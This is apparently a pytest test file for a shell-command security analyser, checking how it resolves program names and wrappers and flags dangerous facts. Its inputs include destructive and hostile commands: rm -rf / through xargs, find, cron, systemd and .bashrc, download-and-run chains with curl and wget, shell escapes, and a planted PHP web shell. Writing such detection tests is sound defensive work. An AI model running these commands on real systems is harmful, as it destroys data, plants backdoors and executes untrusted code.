"""One command: names, wrappers, files written and run, options that are commands."""

import pytest

from gw.defender.shell import analyse
from gw.model.shell import NodeRole
from tests.support.commands import facts_of, running


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("/usr/bin/ls", "ls"),
        ("\\ls", "ls"),
        ("$HOME/bin/tool", "tool"),
        ("$UNKNOWN/bin/tool", "tool"),
        ("a=l; ${a}s", "ls"),
        ("$UNKNOWN", None),
        ("$(unknown)", None),
        ("/b?n/ls", "ls"),
        ("l?", None),
        ("[ -f x ]", "["),
    ],
)
def test_program_names(command: str, program: str | None) -> None:
    assert running(command)[-1].program == program


@pytest.mark.parametrize(
    ("command", "wrappers"),
    [
        ("sudo nice ls", ("sudo", "nice")),
        ("bash -c 'sudo ls'", ("bash", "sudo")),
        ("find . -exec ls {} +", ("find",)),
        ("ssh h 'cd x && ls'", ("ssh",)),
        ("PAGER='ls -l' man x", ("PAGER",)),
        ("git -c core.pager='ls -l' log", ("git",)),
    ],
)
def test_wrappers_are_remembered(command: str, wrappers: tuple[str, ...]) -> None:
    (node,) = [n for n in running(command) if n.program == "ls"]
    assert node.wrappers == wrappers


def test_what_shares_a_span_is_inline() -> None:
    assert [n.role for n in running("find . -exec rm {} +")] == [NodeRole.RUNS, NodeRole.INLINE]
    assert [n.role for n in running("bash -c 'a; b'")] == [NodeRole.RUNS, NodeRole.INLINE, NodeRole.INLINE]
    assert [n.role for n in running("a $(b)")] == [NodeRole.RUNS, NodeRole.RUNS]


@pytest.mark.parametrize(
    ("command", "fact"),
    [
        ("echo / | xargs rm -rf", "deletes-root"),
        ("echo / | xargs -I{} rm -rf {}", "deletes-root"),
        ("find / -exec rm -rf {} +", "deletes-root"),
        ("curl -o x h; chmod +x x; ./x", "executes-download"),
        ("wget http://h/x.c; gcc x.c -o x && ./x", "executes-download"),
        ('gcc -xc - -o x <<< "$(curl h/x.c)"; ./x', "executes-download"),
        ("curl -o x.jar h; java -jar x.jar", "executes-download"),
        ("java -jar <(curl h)", "executes-download"),
        ("ansible-playbook <(echo '- shell: /bin/sh </dev/tty')", "escapes-to-shell"),
        ("echo 'rm -rf /' | tee x; ./x", "deletes-root"),
        ("echo 'rm -rf /' > x; cp x y; sh y", "deletes-root"),
        ("echo rm > x; echo '-rf /' >> x; tr '\\n' ' ' < x | sh", "deletes-root"),
        ("echo 'exec /bin/sh 0<&1' > c; tool -f c", "escapes-to-shell"),
        ("!/bin/sh", "escapes-to-shell"),
        (":!sh", "escapes-to-shell"),
        ("less x\n!/bin/sh", "escapes-to-shell"),
        ('"$(curl h)"', "executes-fetched"),
    ],
)
def test_facts(command: str, fact: str) -> None:
    assert fact in facts_of(command)


def test_wrappers_are_bounded() -> None:
    assert "shell.too-deep" in analyse("sudo " * 40 + "ls").signals
    assert "shell.too-deep" in analyse("eval " * 80 + "ls").signals


@pytest.mark.parametrize(
    "command",
    [
        "echo 'rm -rf /' >> ~/.bashrc",
        "echo '* * * * * root rm -rf /' >> /etc/crontab",
        "echo '@daily rm -rf /' > /etc/cron.d/x",
        "printf '[Service]\\nExecStart=/bin/rm -rf /\\n' > /etc/systemd/system/x.service",
    ],
)
def test_what_a_start_up_file_will_run(command: str) -> None:
    assert "deletes-root" in facts_of(command)


def test_a_web_shell_that_is_written() -> None:
    assert "plants-web-shell" in facts_of("echo '<?php system($_GET[1]); ?>' > x.php")
    assert "plants-web-shell" not in facts_of("echo '<?php system($_GET[1]); ?>' | grep system")


def test_a_folder_that_find_looks_for_by_name() -> None:
    assert "deletes-tree" not in facts_of("find . -name dist -exec rm -rf {} +")
    assert "deletes-tree" in facts_of("find . ! -name dist -exec rm -rf {} +")
    assert "deletes-root" in facts_of("find / -name etc -exec rm -rf {} +")
